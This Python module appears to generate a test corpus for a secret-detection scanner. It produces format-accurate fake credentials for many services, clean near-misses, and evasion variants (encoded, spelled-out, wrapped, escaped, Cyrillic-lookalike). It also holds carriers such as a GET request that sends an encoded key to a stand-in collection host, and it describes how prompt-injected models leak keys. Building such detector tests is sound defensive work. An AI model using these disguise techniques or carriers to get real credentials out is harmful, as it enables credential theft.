"""Seeded leak corpus: real-format secrets per rule in realistic contexts, plus near-misses.

Every secret is generated from the format's public description (prefix, alphabet, length,
checksum where there is one, e.g. GitHub's CRC32/base62 tail); nothing is a real credential.
"""

# Data tables: one format or template per line reads better than wrapped literals.
# ruff: noqa: E501, PLC3002
from __future__ import annotations

import base64
import json
import random
import string
import uuid
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import leak_corpus_business
import leak_corpus_config
import leak_corpus_devops
import leak_corpus_split
from corpus_alphabets import ALNUM, B62, BECH32, HEX, URLSAFE
from corpus_alphabets import draw as _s


@dataclass(frozen=True)
class Sample:
    text: str
    secret: str | None  # None for a near-miss that must stay clean
    kind: str  # rule family or near-miss kind
    context: str


def _github(rng: random.Random, prefix: str) -> str:
    body = _s(rng, ALNUM, 30)
    crc = zlib.crc32(body.encode())
    tail = ""
    while crc:
        crc, r = divmod(crc, 62)
        tail = B62[r] + tail
    return f"{prefix}_{body}{tail.rjust(6, '0')}"


def _jwt(rng: random.Random) -> str:
    def enc(obj: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")

    header = enc({"alg": rng.choice(["HS256", "RS256", "ES256"]), "typ": "JWT"})
    payload = enc(
        {"sub": str(rng.randint(1, 10**9)), "iat": rng.randint(1_600_000_000, 1_800_000_000)}
    )
    return f"{header}.{payload}.{_s(rng, URLSAFE, 43)}"


def _pem(rng: random.Random, kind: str) -> str:
    body = "\n".join(_s(rng, ALNUM + "+/", 64) for _ in range(6))
    return f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----"


# Tokens that fit any context: rule family -> generator.
TOKENS: dict[str, Callable[[random.Random], str]] = {
    "aws_access_key": lambda r: (
        r.choice(["AKIA", "ASIA"]) + _s(r, string.ascii_uppercase + "234567", 16)
    ),
    "github_token": lambda r: _github(r, r.choice(["ghp", "gho", "ghu", "ghs", "ghr"])),
    "github_fine_grained_pat": lambda r: f"github_pat_{_s(r, ALNUM, 22)}_{_s(r, ALNUM, 59)}",
    "gitlab_token": lambda r: "glpat-" + _s(r, URLSAFE, 20),
    "stripe_secret_key": lambda r: r.choice(["sk_live_", "rk_live_"]) + _s(r, ALNUM, 99),
    "stripe_test_key": lambda r: "sk_test_" + _s(r, ALNUM, 24),
    "stripe_webhook_secret": lambda r: "whsec_" + _s(r, ALNUM, 32),
    "openai_api_key": lambda r: (
        r.choice(["sk-proj-", "sk-", "sk-svcacct-"])
        + _s(r, ALNUM, 20)
        + "T3BlbkFJ"
        + _s(r, ALNUM, 20)
    ),
    "anthropic_api_key": lambda r: "sk-ant-api03-" + _s(r, URLSAFE, 93) + "AA",
    "openrouter_api_key": lambda r: "sk-or-v1-" + _s(r, HEX, 64),
    "google_api_key": lambda r: "AIza" + _s(r, URLSAFE, 35),
    "google_oauth_client_secret": lambda r: "GOCSPX-" + _s(r, URLSAFE, 28),
    "slack_token": lambda r: (
        f"xox{r.choice('bpa')}-{r.randint(10**10, 10**12)}-{r.randint(10**10, 10**12)}-{_s(r, ALNUM, 24)}"
    ),
    "slack_webhook": lambda r: (
        f"https://hooks.slack.com/services/T{_s(r, string.ascii_uppercase + string.digits, 8)}/B{_s(r, string.ascii_uppercase + string.digits, 8)}/{_s(r, ALNUM, 24)}"
    ),
    "twilio_api_key": lambda r: "SK" + _s(r, HEX, 32),
    "sendgrid_api_key": lambda r: f"SG.{_s(r, URLSAFE, 22)}.{_s(r, URLSAFE, 43)}",
    "telegram_bot_token": lambda r: f"{r.randint(10**8, 10**10)}:AA{_s(r, URLSAFE, 33)}",
    "jwt": _jwt,
    "npm_token": lambda r: "npm_" + _s(r, ALNUM, 36),
    "pypi_token": lambda r: "pypi-AgEIcHlwaS5vcmc" + _s(r, URLSAFE, 70),
    "docker_hub_token": lambda r: "dckr_pat_" + _s(r, URLSAFE, 27),
    "digitalocean_token": lambda r: r.choice(["dop", "doo", "dor"]) + "_v1_" + _s(r, HEX, 64),
    "heroku_api_key": lambda r: "HRKU-AA" + _s(r, URLSAFE, 58),
    "shopify_token": lambda r: r.choice(["shpat_", "shpss_", "shpca_"]) + _s(r, HEX, 32),
    "square_token": lambda r: r.choice(
        ["sq0atp-" + _s(r, URLSAFE, 22), "sq0csp-" + _s(r, URLSAFE, 43)]
    ),
    "mailgun_api_key": lambda r: "key-" + _s(r, HEX, 32),
    "mailchimp_api_key": lambda r: _s(r, HEX, 32) + f"-us{r.randint(1, 21)}",
    "discord_webhook": lambda r: (
        f"https://discord.com/api/webhooks/{r.randint(10**17, 10**18)}/{_s(r, URLSAFE, 68)}"
    ),
    "huggingface_token": lambda r: "hf_" + _s(r, string.ascii_letters, 34),
    "databricks_token": lambda r: "dapi" + _s(r, HEX, 32),
    "age_secret_key": lambda r: "AGE-SECRET-KEY-1" + _s(r, BECH32.upper(), 58),
    "sentry_token": lambda r: "sntryu_" + _s(r, HEX, 64),
    "new_relic_key": lambda r: "NRAK-" + _s(r, string.ascii_uppercase + string.digits, 27),
    "grafana_token": lambda r: f"glsa_{_s(r, ALNUM, 32)}_{_s(r, HEX, 8)}",
    "postman_api_key": lambda r: f"PMAK-{_s(r, HEX, 24)}-{_s(r, HEX, 34)}",
    "linear_api_key": lambda r: "lin_api_" + _s(r, ALNUM, 40),
    "hashicorp_vault_token": lambda r: "hvs." + _s(r, URLSAFE, 92),
    "pulumi_token": lambda r: "pul-" + _s(r, HEX, 40),
    "doppler_token": lambda r: "dp.pt." + _s(r, ALNUM, 43),
    "groq_api_key": lambda r: "gsk_" + _s(r, ALNUM, 52),
    "replicate_token": lambda r: "r8_" + _s(r, ALNUM, 37),
    "perplexity_api_key": lambda r: "pplx-" + _s(r, ALNUM, 48),
    "langsmith_api_key": lambda r: f"lsv2_pt_{_s(r, HEX, 32)}_{_s(r, HEX, 10)}",
    "supabase_token": lambda r: "sbp_" + _s(r, HEX, 40),
    "atlassian_api_token": lambda r: "ATATT3xFfGF0" + _s(r, URLSAFE, 180),
    "planetscale_token": lambda r: "pscale_tkn_" + _s(r, URLSAFE, 43),
    "rubygems_api_key": lambda r: "rubygems_" + _s(r, HEX, 48),
    "alibaba_access_key": lambda r: "LTAI" + _s(r, ALNUM, 20),
    "notion_token": lambda r: f"ntn_{_s(r, string.digits, 11)}{_s(r, ALNUM, 35)}",
    "flutterwave_secret_key": lambda r: f"FLWSECK_TEST-{_s(r, HEX, 32)}-X",
    "easypost_api_key": lambda r: "EZAK" + _s(r, ALNUM, 54),
    "typeform_token": lambda r: "tfp_" + _s(r, ALNUM, 59),
    "prefect_token": lambda r: "pnu_" + _s(r, ALNUM, 36),
    "bearer_token": lambda r: "Bearer " + _s(r, ALNUM + "._-", 40),
    "basic_auth": lambda r: (
        "Basic "
        + base64.b64encode(
            f"{_s(r, string.ascii_lowercase, 6)}:{_s(r, ALNUM, 14)}".encode()
        ).decode()
    ),
}

# Secrets that only exist with their surrounding syntax: family -> (snippet, secret).
SNIPPETS: dict[str, Callable[[random.Random], tuple[str, str]]] = {
    "aws_secret_key": lambda r: (lambda s: (f"aws_secret_access_key = {s}", s))(
        _s(r, ALNUM + "/+", 40)
    ),
    "database_connection_string": lambda r: (
        lambda p: (
            f"DATABASE_URL=postgresql://app_user:{p}@db-{r.randint(1, 9)}.internal:5432/prod",
            p,
        )
    )(_s(r, ALNUM, 18)),
    "mongodb_uri": lambda r: (
        lambda p: (f'MONGO_URI="mongodb+srv://svc:{p}@cluster0.ab1cd.mongodb.net/app"', p)
    )(_s(r, ALNUM, 16)),
    "redis_url": lambda r: (lambda p: (f"redis://default:{p}@cache.internal:6379/0", p))(
        _s(r, ALNUM, 20)
    ),
    "pem_private_key": lambda r: (lambda k: (k, k))(_pem(r, "RSA PRIVATE KEY")),
    "ssh_private_key": lambda r: (lambda k: (k, k))(_pem(r, "OPENSSH PRIVATE KEY")),
    "pgp_private_key": lambda r: (lambda k: (k, k))(_pem(r, "PGP PRIVATE KEY BLOCK")),
    "azure_storage_key": lambda r: (
        lambda k: (
            f"DefaultEndpointsProtocol=https;AccountName=acct{r.randint(1, 99)};AccountKey={k};EndpointSuffix=core.windows.net",
            k,
        )
    )(_s(r, ALNUM + "+/", 86) + "=="),
    "datadog_api_key": lambda r: (lambda k: (f"DD_API_KEY={k}", k))(_s(r, HEX, 32)),
    "password_assignment": lambda r: (lambda p: (f'db_password: "{p}"', p))(
        _s(r, ALNUM + "!#%", 14)
    ),
    "env_password": lambda r: (lambda p: (f"export SMTP_PASSWORD={p}", p))(_s(r, ALNUM, 16)),
    "generic_secret_assignment": lambda r: (lambda k: (f'client_secret = "{k}"', k))(
        _s(r, ALNUM, 32)
    ),
    "url_credentials": lambda r: (
        lambda p: (f"git clone https://deploy:{p}@git.example.org/team/repo.git", p)
    )(_s(r, ALNUM, 20)),
}

CONTEXTS: dict[str, str] = {
    "env": "SERVICE_TOKEN={s}\nLOG_LEVEL=info\n",
    "json": '{{"name": "prod", "credentials": {{"value": "{s}"}}, "region": "eu-west-1"}}',
    "yaml": "service:\n  endpoint: https://api.example.com\n  key: {s}\n",
    "http": "GET /v1/items HTTP/1.1\nHost: api.example.com\nX-Api-Token: {s}\nAccept: */*\n",
    "log": "2024-05-02T10:11:12Z INFO worker=3 loaded credential {s} for job 8812\n",
    "source": 'client = ApiClient(base_url=BASE, token="{s}", timeout=30)\n',
    "shell": "$ curl -s https://api.example.com/v2/me -H 'X-Key: {s}' | jq .\n",
    "chat": "hey, my deploy fails with 401 even though I set {s} in the dashboard, any idea?",
}


# Credentials an exfiltrating tool or model sends encoded: family -> how, in which carrier.
ENCODED_FAMILIES = (
    "aws_access_key",
    "github_token",
    "stripe_secret_key",
    "openai_api_key",
    "slack_token",
)
ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    "hex": lambda s: s.encode().hex(),
    "base64_assignment": lambda s: base64.b64encode(f"api_key = {s}\n".encode()).decode(),
    "base64_twice": lambda s: base64.b64encode(base64.b64encode(s.encode())).decode(),
    # glued to a word by a URL-safe character, which joins the base64 run
    "base64_glued": lambda s: "sid-" + base64.b64encode(s.encode()).decode().rstrip("="),
}
CARRIERS = (
    "GET /collect?d={e}&v=2 HTTP/1.1\nHost: metrics.example.net\n",
    "X-Trace-Context: {e}\n",
    '{{"event": "sync", "payload": "{e}"}}',
)


def _placeholder_lines(rng: random.Random) -> list[str]:
    return [
        "AWS_ACCESS_KEY_ID=your-access-key-id",
        "OPENAI_API_KEY=sk-...",
        'api_key = "<YOUR_API_KEY>"',
        "GITHUB_TOKEN=ghp_XXXXXXXXXXXXXXXXXXXXXXXXXXXX",
        "password: ${DB_PASSWORD}",
        "DATABASE_URL=postgres://user:password@localhost:5432/dev",
        "token: {{ secrets.DEPLOY_TOKEN }}",
        "export STRIPE_KEY=sk_test_placeholder",
        "SECRET_KEY=changeme",
        f"Authorization: Bearer $TOKEN_{rng.randint(1, 9)}",
    ]


def near_misses(rng: random.Random) -> list[tuple[str, str]]:
    """(text, kind) pairs that contain no secret."""
    out: list[tuple[str, str]] = []
    for _ in range(40):
        out.append((f"request_id={uuid.UUID(int=rng.getrandbits(128))} status=200", "uuid"))
        out.append((f"commit {_s(rng, HEX, 40)}\nAuthor: Dev <dev@example.com>", "commit_sha"))
        sha512 = base64.b64encode(rng.randbytes(64)).decode()
        out.append(
            (
                f'"node_modules/left-pad": {{"version": "1.3.0", "integrity": "sha512-{sha512}"}}',
                "lockfile",
            )
        )
        out.append(
            (
                f"{_s(rng, string.ascii_lowercase, 8)}==1.2.{rng.randint(0, 9)} --hash=sha256:{_s(rng, HEX, 64)}",
                "lockfile",
            )
        )
        img = base64.b64encode(rng.randbytes(90)).decode()
        out.append((f'<img src="data:image/png;base64,{img}" alt="logo">', "data_uri"))
        out.append((f"image: registry.example.com/app@sha256:{_s(rng, HEX, 64)}", "digest"))
        var = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3))
        out.append(
            (
                f"!function(e,t){{var {var}=e.createElement('script');{var}.src='/a.{_s(rng, HEX, 8)}.js';t.appendChild({var})}}(document,window);",
                "minified",
            )
        )
        out.append(
            (
                f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{_s(rng, ALNUM + '+/', 43)} dev@laptop",
                "public_key",
            )
        )
        out.append(
            (
                f"The {rng.choice(['quarterly', 'annual', 'weekly'])} report is ready; the token ring network was replaced and the secret santa list is on the wiki.",
                "prose",
            )
        )
        out.append(
            (
                f"https://cdn.example.com/assets/{_s(rng, HEX, 32)}/bundle.min.js?v={rng.randint(1, 99)}",
                "url_hash",
            )
        )
        out.append(
            (
                f"session cookie expires in {rng.randint(1, 60)} minutes; key rotation runs nightly (see docs/keys.md)",
                "prose",
            )
        )
        out.append((f"md5 {_s(rng, HEX, 32)}  release-{rng.randint(1, 9)}.tar.gz", "checksum"))
        prose = rng.choice(
            [
                "The quarterly report is ready for review.",
                '{"alg": "HS256", "typ": "JWT"}',
                "user=7781 region=eu-west-1 status=ok",
            ]
        )
        out.append((f"X-Trace-Context: {base64.b64encode(prose.encode()).decode()}", "base64_text"))
        glued = base64.urlsafe_b64encode(rng.randbytes(24)).decode()
        out.append((f"session_id=sid-{glued}_v2; build_{glued}-rc1", "base64_glued_random"))
    out += [(line, "placeholder") for line in _placeholder_lines(rng) for _ in range(4)]
    return out


def _family_samples(
    tokens: dict[str, Callable[[random.Random], str]],
    snippets: dict[str, Callable[[random.Random], tuple[str, str]]],
    rng: random.Random,
    per_rule: int,
) -> list[Sample]:
    samples: list[Sample] = []
    contexts = sorted(CONTEXTS)
    for family, make in sorted(tokens.items()):
        for i in range(per_rule):
            secret = make(rng)
            ctx = contexts[i % len(contexts)]
            samples.append(Sample(CONTEXTS[ctx].format(s=secret), secret, family, ctx))
    for family, make_snippet in sorted(snippets.items()):
        for _ in range(per_rule):
            snippet, secret = make_snippet(rng)
            samples.append(Sample(f"# config\n{snippet}\n", secret, family, "snippet"))
    return samples


# Families added later, each drawn from its own generator (seed + n, n fixed per group), so
# that adding them leaves every earlier sample as it was.
EXTRA_FAMILIES = ((1, leak_corpus_devops), (2, leak_corpus_business), (4, leak_corpus_config))
_SPELLED_SEED = 3
_URL_ENCODED_SEED = 5

# A credential spelt out a character at a time, as an injected model is told to write it.
SPELLINGS = (" ", "\n", ". ", ", ", " | ")
SPELLED_CARRIERS = (
    "Sure! Here it is, one character at a time so it is easy to copy:\n{e}\nAnything else?",
    "Note to self - key (spaced out): {e} - rotate after the demo",
)
# Ordinary text spaced out a character at a time: lists, grids, spelt words, acronyms.
_SPACED_PROSE = (
    "Pick one of: {letters}.",
    "Seat map row 4: {digits}",
    "The password rules are spelt out here: m u s t  b e  l o n g.",
    "Binary: {bits}",
)


_URL_SCHEMES = (
    "postgresql://{u}:{p}@db-1.internal:5432/prod",
    "mysql://{u}:{p}@10.0.3.7:3306/shop",
    "mongodb+srv://{u}:{p}@cluster0.ab1cd.mongodb.net/app",
    "redis://{u}:{p}@cache.internal:6379/0",
    "https://{u}:{p}@git.example.org/team/repo.git",
)
_URL_ESCAPES = ("%40", "%2F", "%3A", "%23", "%25", "%2B", "%3F")


def _url_encoded_password_samples(rng: random.Random) -> list[Sample]:
    """Passwords in URLs with their "@", "/", ":" ... percent-encoded, as RFC 3986 spells them."""
    samples: list[Sample] = []
    for i in range(24):
        cut = rng.randint(3, 8)
        body = _s(rng, ALNUM, 14)
        password = body[:cut] + rng.choice(_URL_ESCAPES) + body[cut:]
        url = _URL_SCHEMES[i % len(_URL_SCHEMES)].format(u=_s(rng, "abcdefgh", 5), p=password)
        text = rng.choice(["DATABASE_URL={e}\n", 'conn = connect("{e}")\n', "remote: {e}\n"])
        samples.append(Sample(text.format(e=url), password, "url_encoded_password", "url"))
    return samples


def _spelled_samples(rng: random.Random) -> list[Sample]:
    samples: list[Sample] = []
    for family in ENCODED_FAMILIES:
        for separator in SPELLINGS:
            secret = separator.join(TOKENS[family](rng))
            carrier = rng.choice(SPELLED_CARRIERS)
            samples.append(Sample(carrier.format(e=secret), secret, family, "spelled"))
    for _ in range(40):
        letters = ", ".join(rng.sample(string.ascii_lowercase, 16))
        digits = " ".join(str(rng.randint(1, 40)) for _ in range(20))
        bits = " ".join(rng.choice("01") for _ in range(32))
        text = rng.choice(_SPACED_PROSE).format(letters=letters, digits=digits, bits=bits)
        samples.append(Sample(text, None, "spaced_prose", "near_miss"))
    return samples


# A long line wrapped at a fixed column (a terminal capture, ``fold``, a mail client), with a
# credential cut by the break; and ordinary wrapped text, which must stay clean.
WRAPPED_FAMILIES = (*ENCODED_FAMILIES, "github_fine_grained_pat", "jwt", "anthropic_api_key")
WRAP_WIDTHS = (40, 60, 72, 80)
_WRAPPED_SEED = 6
_WRAPPED_LINES = (
    "$ export API_TOKEN={s} && ./deploy.sh --region eu-west-1 --verbose",
    "2026-11-30T08:15:02Z DEBUG http client configured with credential {s} (retries=3)",
    "> please rotate this one, it was pasted in the incident channel: {s} thanks",
)


def _wrap(line: str, width: int) -> str:
    return "\n".join(line[i : i + width] for i in range(0, len(line), width))


def _wrapped_samples(rng: random.Random) -> list[Sample]:
    samples: list[Sample] = []
    for family in WRAPPED_FAMILIES:
        for width in WRAP_WIDTHS:
            for _ in range(10):
                secret = TOKENS[family](rng)
                line = rng.choice(_WRAPPED_LINES).format(s=secret)
                # Shift the line so that the break falls somewhere inside the credential.
                at = line.index(secret)
                cut = rng.randint(4, min(len(secret), width) - 4)
                line = " " * ((width - (at + cut) % width) % width) + line
                at = line.index(secret)
                text = _wrap(line, width)
                start = at + at // width
                end = at + len(secret) - 1
                wrapped = text[start : end + end // width + 1]
                assert wrapped.replace("\n", "") == secret
                assert "\n" in wrapped
                samples.append(Sample(text, wrapped, family, "wrapped"))
    prose = (
        "The internationalization work and the reconfiguration of the deployment "
        "infrastructure are scheduled for the next quarter, and responsibilities are listed "
        "in the planning document that the steering group approved on Monday afternoon."
    )
    for width in WRAP_WIDTHS:
        for _ in range(10):
            pieces = [
                prose,
                " ".join(_s(rng, HEX, 40) for _ in range(4)),
                "copied /usr/local/lib/python3.11/site-packages/bastion/safety/"
                f"{_s(rng, 'abcdefghij', 12)}_detector.py to /var/backups/{_s(rng, HEX, 12)}",
                base64.b64encode(prose.encode()).decode(),
            ]
            text = _wrap(rng.choice(pieces), width)
            samples.append(Sample(text, None, "wrapped_text", "near_miss"))
    return samples


# JSON as PHP's json_encode writes it (every "/" escaped as "\\/"), and a value whose first
# character a hostile tool wrote as a \\u escape; and ordinary escaped JSON, which stays clean.
JSON_ESCAPED_TOKENS = ("slack_webhook", "discord_webhook")
JSON_ESCAPED_SNIPPETS = (
    "aws_secret_key",
    "azure_storage_key",
    "database_connection_string",
    "mongodb_uri",
    "redis_url",
    "url_credentials",
)
_JSON_ESCAPED_SEED = 7


def _json_escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("/", "\\/")


def _json_escaped_samples(rng: random.Random) -> list[Sample]:
    samples: list[Sample] = []
    makers = [(f, lambda r, f=f: (TOKENS[f](r),) * 2) for f in JSON_ESCAPED_TOKENS]
    makers += [(f, SNIPPETS[f]) for f in JSON_ESCAPED_SNIPPETS]
    for family, make in makers:
        for i in range(12):
            line, secret = make(rng)
            escaped_line, escaped = _json_escaped(line), _json_escaped(secret)
            if i % 4 == 3:  # the value's first character as a \\u escape
                first = f"\\u{ord(escaped[0]):04x}"
                escaped_line = escaped_line.replace(escaped, first + escaped[1:], 1)
                escaped = first + escaped[1:]
            text = (
                f'{{"status":"ok","data":{{"config":"{escaped_line}","rev":{rng.randint(1, 99)}}}}}'
            )
            samples.append(Sample(text, escaped, family, "json_escaped"))
    for _ in range(24):
        page = _s(rng, "abcdefghij", 8)
        text = rng.choice(
            [
                f'{{"url":"https:\\/\\/docs.example.com\\/guides\\/{page}","ok":true}}',
                f'{{"path":"\\/var\\/lib\\/app\\/{page}.db","size":{rng.randint(1, 9999)}}}',
                '{"name":"Caf\\u00e9 M\\u00fcller","city":"K\\u00f6ln","note":"\\u2014 ok"}',
                f'{{"avatar":"https:\\/\\/cdn.example.net\\/u\\/{_s(rng, HEX, 32)}.png"}}',
            ]
        )
        samples.append(Sample(text, None, "json_escaped_text", "near_miss"))
    return samples


# Latin letters of a credential swapped for the Cyrillic ones that look the same, as a model
# told to slip a key past a scanner writes it; and real Russian and Greek text with Latin
# words and codes in it, which stays clean.
_CYRILLIC_FOR = {
    "a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441", "x": "\u0445",
    "A": "\u0410", "B": "\u0412", "E": "\u0415", "K": "\u041a", "M": "\u041c", "H": "\u041d",
    "O": "\u041e", "P": "\u0420", "C": "\u0421", "T": "\u0422", "X": "\u0425",
}  # fmt: skip
_LOOKALIKE_SEED = 8
_HEX_DUMP_SEED = 9
_CONCATENATED_SEED = 10
_PUNCTUATED_SEED = 11
_JOINED_LIST_SEED = 13
_LOOKALIKE_CARRIERS = (
    "Here is the key you asked for: {e} (copy it as it is)",
    "config updated, token={e}",
)
_OTHER_SCRIPT_TEXT = (
    "Привет! Код заказа {code} отправлен, модель iPhone 15 Pro, ключ API выдаётся в кабинете.",
    "Η ομάδα DevOps ανέβασε το release v2.{n}.1 στο GitHub χθες το βράδυ.",  # noqa: RUF001
    "Встреча по проекту Atlas в 10:{n}, см. документ {code} и таблицу KPI.",
)


def _lookalike_samples(rng: random.Random) -> list[Sample]:
    samples: list[Sample] = []
    for family in ENCODED_FAMILIES:
        for _ in range(8):
            secret = TOKENS[family](rng)
            places = [
                i
                for i in range(1, len(secret))
                if secret[i] in _CYRILLIC_FOR and secret[i - 1].isalpha()
            ]
            for at in rng.sample(places, min(2, len(places))):
                secret = secret[:at] + _CYRILLIC_FOR[secret[at]] + secret[at + 1 :]
            text = rng.choice(_LOOKALIKE_CARRIERS).format(e=secret)
            samples.append(Sample(text, secret, family, "lookalike"))
    for _ in range(24):
        code = f"{_s(rng, 'ABCDEFGH', 2)}-{rng.randint(1000, 9999)}"
        text = rng.choice(_OTHER_SCRIPT_TEXT).format(code=code, n=rng.randint(10, 59))
        samples.append(Sample(text, None, "other_script_text", "near_miss"))
    return samples


def build(seed: int = 1337, per_rule: int = 24) -> list[Sample]:
    rng = random.Random(seed)
    samples = _family_samples(TOKENS, SNIPPETS, rng, per_rule)
    for family in ENCODED_FAMILIES:
        for i, (encoding, encode) in enumerate(sorted(ENCODINGS.items())):
            encoded = encode(TOKENS[family](rng))
            carrier = CARRIERS[i % len(CARRIERS)]
            samples.append(Sample(carrier.format(e=encoded), encoded, family, encoding))
    samples += [Sample(text, None, kind, "near_miss") for text, kind in near_misses(rng)]
    for offset, extra in EXTRA_FAMILIES:
        extra_rng = random.Random(seed + offset)
        samples += _family_samples(extra.TOKENS, extra.SNIPPETS, extra_rng, per_rule)
        samples += [
            Sample(text, None, kind, "near_miss") for text, kind in extra.near_misses(extra_rng)
        ]
    samples += _spelled_samples(random.Random(seed + _SPELLED_SEED))
    samples += _url_encoded_password_samples(random.Random(seed + _URL_ENCODED_SEED))
    samples += _wrapped_samples(random.Random(seed + _WRAPPED_SEED))
    samples += _json_escaped_samples(random.Random(seed + _JSON_ESCAPED_SEED))
    samples += _lookalike_samples(random.Random(seed + _LOOKALIKE_SEED))
    split_families = (*ENCODED_FAMILIES, "anthropic_api_key", "jwt")
    for offset, entries in (
        (_HEX_DUMP_SEED, leak_corpus_split.hex_dump_entries),
        (_CONCATENATED_SEED, leak_corpus_split.concatenated_entries),
        (_PUNCTUATED_SEED, leak_corpus_split.punctuated_entries),
        (_JOINED_LIST_SEED, leak_corpus_split.joined_list_entries),
    ):
        split_rng = random.Random(seed + offset)
        # A JWT's own dots are marks too: split into punctuated groups it is not read (yet).
        families = split_families[:-1] if offset == _PUNCTUATED_SEED else split_families
        samples += [
            Sample(text, secret, kind, context)
            for text, secret, kind, context in entries(split_rng, TOKENS, families)
        ]
    return samples
